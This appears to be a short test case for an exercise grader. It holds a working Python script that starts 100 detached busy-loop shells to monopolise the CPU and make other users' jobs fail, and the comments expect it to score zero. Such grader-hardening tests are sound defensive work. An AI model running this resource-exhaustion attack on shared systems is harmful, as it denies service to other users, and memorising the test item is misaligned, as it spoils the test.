# attack: a hundred shells in sessions of their own compute for 15 seconds each, to take the processors from others
# gains: others' work fails
# expect: 0 points in check-0-1
# canary: grader
# %% exercise-0-1
# include: wrong
import subprocess

for _ in range(100):
    subprocess.Popen(["sh", "-c", "ulimit -t 15; while :; do :; done"], start_new_session=True)
# %% after
import time

time.sleep(60)
